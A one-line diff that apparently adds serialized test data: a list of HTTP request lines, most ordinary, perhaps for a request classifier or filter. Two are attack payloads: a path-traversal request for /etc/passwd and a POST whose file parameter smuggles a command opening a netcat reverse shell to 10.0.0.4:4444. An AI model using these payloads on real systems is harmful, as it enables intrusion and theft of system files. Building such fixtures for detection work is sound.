@@ -1,0 +1,1 @@
+2!GET /blog/python-pricing HTTP/1.122GET /download?file=../../../../etc/passwd HTTP/1.12#DELETE /blog/coffee-kernel HTTP/1.12APOST /api/convert?file=a.png|nc -e /bin/sh 10.0.0.4 4444 HTTP/1.12PUT /api/users/2495 HTTP/1.1Brequest
